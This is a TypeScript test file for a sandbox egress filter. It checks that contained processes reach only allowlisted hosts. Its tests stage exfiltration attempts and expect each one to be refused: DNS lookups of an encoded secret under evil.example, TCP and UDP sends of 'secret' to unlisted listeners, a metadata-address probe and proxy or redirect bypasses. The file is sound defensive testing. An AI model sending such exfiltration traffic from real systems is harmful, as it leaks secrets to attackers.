import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, test } from 'vitest';
import { dialer, openSessionNetwork } from '../../../src/containment/egress/index.js';
import { answerHttp, hostServer, inside, open, openDescriptors, scriptInside } from './inside.js';

const loopback = async () => [{ address: '127.0.0.1', family: 4 as const }];
const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

async function session(allow: readonly string[], options?: Parameters<typeof open>[1]) {
  const opened = await open(allow, options);
  cleanups.push(() => opened.network.close());
  return opened;
}

async function web(body = 'hello from outside') {
  const server = await hostServer(answerHttp(body));
  cleanups.push(() => server.close());
  return server;
}

const linux = process.platform === 'linux';

/** Connects inside and tells what became of it. */
const connecting = (host: string, port: number) => `
  import { connect } from 'node:net';
  const socket = connect({ host: ${JSON.stringify(host)}, port: ${port} });
  let reached = false;
  socket.on('connect', () => { reached = true; socket.write('secret'); });
  socket.on('error', (error) => console.log(JSON.stringify({ reached, code: error.code })));
  socket.on('end', () => console.log(JSON.stringify({ reached, code: 'END' })));
  socket.resume();`;

describe.runIf(linux)('a network of a session', () => {
  test('proxy-env: programs that know nothing of it reach an allowed name, whatever proxy variables say', async () => {
    const server = await web();
    const { network } = await session([`http://api.example:${server.port}`], { privateNames: [], resolve: loopback });
    const url = `http://api.example:${server.port}/`;
    const proxies = {
      http_proxy: 'http://127.0.0.1:1',
      HTTPS_PROXY: 'http://127.0.0.1:1',
      ALL_PROXY: 'socks5://127.0.0.1:1',
    };
    const node = await inside(
      network,
      [process.execPath, '-e', `fetch('${url}').then((r) => r.text()).then((t) => console.log(t))`],
      proxies,
    );
    expect(node).toMatchObject({ stdout: 'hello from outside\n', exitCode: 0 });
    const python = await inside(network, [
      'python3',
      '-c',
      `import urllib.request as u; print(u.build_opener(u.ProxyHandler({})).open('${url}').read().decode())`,
    ]);
    expect(python).toMatchObject({ stdout: 'hello from outside\n', exitCode: 0 });
    const curl = await inside(network, ['curl', '-sS', '--noproxy', '*', url]);
    expect(curl).toMatchObject({ stdout: 'hello from outside', exitCode: 0 });
    expect(server.connections()).toBe(3);
    // A program that honours the variables finds no proxy where they point, and no way around the rules.
    expect((await inside(network, ['curl', '-sS', url], proxies)).exitCode).not.toBe(0);
    expect(server.connections()).toBe(3);
    expect(network.counts).toMatchObject({ connections: 3, refusedConnections: 0 });
  });

  test('dns-exfiltration: a name no rule has is refused at once, and told once', async () => {
    const { network, facts } = await session(['api.example']);
    const asked = await scriptInside<string[]>(
      network,
      `import { Resolver } from 'node:dns/promises';
       const resolver = new Resolver(); const out = [];
       for (const [name, type] of [['c2VjcmV0.evil.example', 'A'], ['c2VjcmV0.evil.example', 'A'], ['api.example', 'A'],
         ['API.example', 'A'], ['api.example', 'AAAA'], ['api.example', 'TXT'], ['sub.api.example', 'A'], ['127.0.0.1', 'A']]) {
         out.push(await resolver.resolve(name, type).then((found) => found.join(), (error) => error.code));
       }
       console.log(JSON.stringify(out));`,
    );
    expect(asked).toEqual([
      'EREFUSED',
      'EREFUSED',
      '198.18.0.1',
      '198.18.0.1',
      'ENODATA',
      'ENODATA',
      'EREFUSED',
      'EREFUSED',
    ]);
    expect(facts).toEqual(
      ['c2VjcmV0.evil.example', 'sub.api.example', '127.0.0.1'].map((name) => ({
        type: 'egress.denied',
        reason: 'not-allowed',
        target: name.toLowerCase(),
      })),
    );
  });

  test('udp-exfiltration, connect-unlisted-tcp-host: a listener on the same host that no rule names is never reached, by any address, TCP or UDP', async () => {
    const allowed = await web();
    const other = await hostServer((socket) => socket.resume());
    cleanups.push(() => other.close());
    const datagrams = createSocket('udp4').bind(0, '127.0.0.1');
    await once(datagrams, 'listening');
    const udpPort = (datagrams.address() as AddressInfo).port;
    let received = 0;
    datagrams.on('message', () => {
      received += 1;
    });
    cleanups.push(async () => void datagrams.close());

    // The second rule opens a listener for the other server's port; only its own name leads there.
    const { network, facts } = await session(
      [`http://api.example:${allowed.port}`, `elsewhere.example:${other.port}`],
      {
        privateNames: [],
        resolve: loopback,
      },
    );
    for (const host of [
      '127.0.0.1',
      '127.0.0.2',
      '10.0.0.1',
      '169.254.169.254',
      '1.1.1.1',
      '::1',
      '2001:db8::1',
      '198.18.0.1',
    ]) {
      const outcome = await scriptInside<{ reached: boolean; code: string }>(network, connecting(host, other.port));
      expect({ host, ...outcome }).toMatchObject({ host, code: 'ECONNRESET' });
    }
    // The private-address rule: the name is allowed, its address is not.
    expect(await scriptInside(network, connecting('elsewhere.example', other.port))).toMatchObject({
      code: 'ECONNRESET',
    });
    expect(facts).toContainEqual({
      type: 'egress.denied',
      reason: 'private-address',
      target: `elsewhere.example:${other.port}`,
    });
    expect(facts).toContainEqual({
      type: 'egress.denied',
      reason: 'not-allowed',
      target: `[2001:db8::1]:${other.port}`,
    });
    expect(await scriptInside(network, connecting('127.0.0.1', 9))).toEqual({ reached: false, code: 'ECONNREFUSED' });

    await scriptInside(
      network,
      `import { createSocket } from 'node:dgram';
       const receiver = createSocket('udp4').bind(${udpPort}, '127.0.0.1');
       receiver.on('listening', () => createSocket('udp4').send('secret', ${udpPort}, '127.0.0.1'));
       // It arrives, inside: the way to the host's own socket is gone, not only slow.
       receiver.on('message', (text) => { console.log(JSON.stringify(String(text))); process.exit(0); });`,
    ).then((text) => expect(text).toBe('secret'));
    expect([allowed.connections(), other.connections(), received]).toEqual([0, 0, 0]);
  });

  test('a literal address leads out only when the list has it, IPv6 too; localhost also by its addresses', async () => {
    const server = await web();
    const { network } = await session([`127.0.0.1:${server.port}`]);
    const at = (host: string) => ['curl', '-sS', '--noproxy', '*', `http://${host}:${server.port}/`];
    expect(await inside(network, at('127.0.0.1'))).toMatchObject({ stdout: 'hello from outside' });
    expect((await inside(network, at('[::1]'))).exitCode).not.toBe(0);

    const byName = await session([`localhost:${server.port}`]);
    expect(await inside(byName.network, at('localhost'))).toMatchObject({ stdout: 'hello from outside' });
    expect(server.connections()).toBe(2);
  });

  test('a name leads to the port its rule has and to no other', async () => {
    const [first, second] = [await web(), await web()];
    const { network, facts } = await session(
      [`http://one.example:${first.port}`, `http://two.example:${second.port}`],
      { privateNames: [], resolve: loopback },
    );
    expect(await scriptInside(network, connecting('one.example', second.port))).toMatchObject({ code: 'ECONNRESET' });
    expect(facts).toEqual([{ type: 'egress.denied', reason: 'not-allowed', target: `one.example:${second.port}` }]);
    expect(second.connections()).toBe(0);
  });

  test('a redirect of an allowed server leads nowhere else', async () => {
    const other = await web();
    const allowed = await hostServer((socket) => {
      socket.once('data', () =>
        socket.end(
          `HTTP/1.1 302 Found\r\nlocation: http://127.0.0.1:${other.port}/secret\r\ncontent-length: 0\r\nconnection: close\r\n\r\n`,
        ),
      );
    });
    cleanups.push(() => allowed.close());
    const { network } = await session([`http://api.example:${allowed.port}`], { privateNames: [], resolve: loopback });
    const ended = await inside(network, ['curl', '-sSL', '--noproxy', '*', `http://api.example:${allowed.port}/`]);
    expect(ended.exitCode).toBe(7); // could not connect
    expect([allowed.connections(), other.connections()]).toEqual([1, 0]);
  });

  test('an empty list still isolates', async () => {
    const server = await web();
    const { network } = await session([]);
    expect(await scriptInside(network, connecting('127.0.0.1', server.port))).toEqual({
      reached: false,
      code: 'ECONNREFUSED',
    });
    expect(server.connections()).toBe(0);
  });

  test('both directions carry bulk, and either end may finish first', async () => {
    const server = await hostServer((socket) => {
      let bytes = 0;
      socket.on('data', (chunk) => {
        bytes += chunk.length;
      });
      // Answers only after the client has finished writing.
      socket.on('end', () => socket.end(`got ${bytes}`));
    });
    cleanups.push(() => server.close());
    const { network } = await session([`http://api.example:${server.port}`], { privateNames: [], resolve: loopback });
    const said = await scriptInside<string>(
      network,
      `import { connect } from 'node:net';
       const socket = connect({ host: 'api.example', port: ${server.port}, allowHalfOpen: true });
       socket.end(Buffer.alloc(8 * 1024 * 1024));
       let text = ''; socket.on('data', (chunk) => { text += chunk; });
       socket.on('end', () => console.log(JSON.stringify(text)));`,
    );
    expect(said).toBe(`got ${8 * 1024 * 1024}`);
  });

  test('ten sessions, one after the other, leave no descriptor behind', async () => {
    const [before] = [openDescriptors()];
    for (let round = 0; round < 10; round += 1) {
      const { network } = await open(['api.example', 'other.example:8080']);
      await network.close();
      await network.close();
    }
    expect(openDescriptors()).toBe(before);
  });

  test('closing ends what is under way', async () => {
    const server = await hostServer((socket) => socket.write('.'));
    cleanups.push(() => server.close());
    const { network } = await open([`http://api.example:${server.port}`], { privateNames: [], resolve: loopback });
    const arrived = once(server.server, 'connection');
    const running = inside(network, ['curl', '-sS', '--noproxy', '*', `http://api.example:${server.port}/`]);
    await arrived;
    await network.close();
    expect((await running).exitCode).not.toBe(0);
  });
});

test('a host that cannot make the namespace says why', async () => {
  const none = { rules: [], dial: dialer({ privateNames: [] }), onRefused: () => {} };
  expect(await openSessionNetwork({ ...none, unshare: null })).toHaveProperty(
    'refused',
    expect.stringMatching(/unshare|Linux/),
  );
  const before = linux ? openDescriptors() : 0;
  const refused = await openSessionNetwork({ ...none, unshare: '/bin/false' });
  expect(refused).toHaveProperty('refused', expect.stringMatching(/ended with|Linux/));
  expect(await openSessionNetwork({ ...none, unshare: '/nowhere/unshare' })).toHaveProperty('refused');
  if (linux) expect(openDescriptors()).toBe(before);
});
